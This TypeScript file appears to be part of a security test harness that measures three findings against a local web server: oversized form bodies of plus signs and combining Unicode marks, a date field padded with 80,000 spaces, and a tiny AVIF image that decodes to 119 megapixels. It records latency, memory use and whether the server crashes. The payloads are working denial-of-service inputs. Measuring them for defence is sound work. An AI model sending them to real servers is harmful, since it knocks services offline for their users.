import sharp from "sharp";
import { form, longestWait, send, signIn } from "./attacker";
import type { Attack, Figure } from "./attacks";
import type { MeasuredServer } from "./server";

const MEGABYTE = 1024 * 1024;
const plainForm = { "Content-Type": "application/x-www-form-urlencoded" };
const partsForm = { "Content-Type": "multipart/form-data; boundary=b" };

/** Findings 4, 5 and 6: bodies that cost far more than their size suggests. */
export const heavyBodies: Attack[] = [
  { number: 4, run: sendText },
  { number: 5, run: sendYear },
  { number: 6, run: sendLargePicture },
];

async function sendText(server: MeasuredServer): Promise<Figure[]> {
  const pluses = `a=${"+".repeat(2 * MEGABYTE - 2)}`;
  // Thirty combining marks after each letter, out of order: as many as the stream-safe format
  // allows.
  const marks = `a${"\u0301\u0316".repeat(15)}`.repeat(MEGABYTE / 61).slice(0, MEGABYTE / 2 - 100);
  const parts = ["customer", "customerMemo"].map(
    (name) => `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${marks}\r\n`,
  );
  const bodies: [string, string, Record<string, string>, string][] = [
    ["2 MB of + to /admin/login", "/admin/login", plainForm, pluses],
    ["2 MB of + to /contact", "/contact", plainForm, pluses],
    ["2 x 1 MB of marks to /contact", "/contact", partsForm, `${parts.join("")}--b--\r\n`],
    [
      "2 x 1 MB of marks to /api/contact/add",
      "/api/contact/add",
      partsForm,
      `${parts.join("")}--b--\r\n`,
    ],
  ];
  const figures: Figure[] = [];
  for (const [name, path, headers, body] of bodies) {
    figures.push(...(await told(server, name, () => send(server.port, path, { headers, body }))));
  }
  return figures;
}

async function sendYear(server: MeasuredServer) {
  const { session } = await signIn(server);
  const { headers, body } = form({ title: "a", completion: `2${" ".repeat(80_000)}가` });
  return told(server, "a year with 80,000 spaces", () =>
    send(server.port, "/api/portfolio/add", { headers: { ...headers, Cookie: session }, body }),
  );
}

let picture: Promise<Buffer> | undefined;

/** 119 megapixels of one colour in a few kB. */
function largePicture() {
  const create = { width: 10_909, height: 10_909, channels: 3, background: "#888" } as const;
  return sharp({ create, limitInputPixels: false }).avif({ effort: 0, quality: 30 }).toBuffer();
}

async function sendLargePicture(server: MeasuredServer) {
  picture ??= largePicture();
  const content = await picture;
  const { session } = await signIn(server);
  const before = server.memory();
  const body = Buffer.concat([
    Buffer.from(
      '--b\r\nContent-Disposition: form-data; name="imageFiles"; filename="a.avif"\r\n\r\n',
    ),
    content,
    Buffer.from("\r\n--b--\r\n"),
  ]);
  const figures = await told(
    server,
    `119 MP in ${(content.length / 1024).toFixed(1)} kB, AVIF`,
    () =>
      send(server.port, "/api/staged/portfolio", {
        headers: { ...partsForm, Cookie: session },
        body,
      }),
  );
  const words = server.isAlive()
    ? `${server.peakMemory().toFixed(0)} MB (idle: ${before.toFixed(0)} MB)`
    : "ENDED";
  return [...figures, { name: "  most memory", words }];
}

async function told(
  server: MeasuredServer,
  name: string,
  work: () => Promise<{ status: number; time: number }>,
): Promise<Figure[]> {
  const { result, longest } = await longestWait(server, work);
  return [
    { name, time: result.time, words: `${result.status || "no answer"}` },
    { name: "  another visitor waits at most", time: longest },
  ];
}
